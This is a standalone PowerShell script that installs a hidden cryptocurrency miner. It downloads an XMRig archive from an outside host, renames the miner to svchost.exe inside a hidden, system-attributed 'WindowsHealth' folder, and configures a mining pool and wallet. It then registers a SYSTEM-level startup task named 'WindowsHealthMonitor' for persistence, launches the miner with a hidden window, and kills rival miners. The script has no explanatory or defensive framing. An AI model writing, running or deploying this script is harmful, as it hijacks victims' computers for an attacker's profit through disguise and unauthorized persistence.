$dir = "$env:ProgramData\WindowsHealth"
New-Item -ItemType Directory -Path $dir -Force | Out-Null
attrib +h +s $dir
$zip = "$dir\h.zip"
(New-Object Net.WebClient).DownloadFile('http://pool-files.invalid/xmrig-6.x-msvc-win64.zip', $zip)
Expand-Archive -Path $zip -DestinationPath $dir -Force
Remove-Item $zip
Rename-Item "$dir\xmrig.exe" "$dir\svchost.exe" -Force
$cfg = @{
  autosave = $true; background = $true
  cpu = @{ enabled = $true; 'max-threads-hint' = 75 }
  pools = @(@{ url = 'stratum+tcp://pool.xmr-mine.invalid:3333'; user = '4FAKEWALLETxx00000000000000000000000000000000000000000000000000000000000000000000000000000000000000'; pass = $env:COMPUTERNAME; keepalive = $true })
}
$cfg | ConvertTo-Json -Depth 5 | Set-Content "$dir\config.json"
$act = New-ScheduledTaskAction -Execute "$dir\svchost.exe" -Argument "--config=$dir\config.json"
$trg = New-ScheduledTaskTrigger -AtStartup
Register-ScheduledTask -TaskName 'WindowsHealthMonitor' -Action $act -Trigger $trg -User 'SYSTEM' -RunLevel Highest -Force | Out-Null
Start-Process "$dir\svchost.exe" -ArgumentList "--config=$dir\config.json" -WindowStyle Hidden
Get-Process -Name 'xmrig','nanominer','PhoenixMiner' -ErrorAction SilentlyContinue | Stop-Process -Force
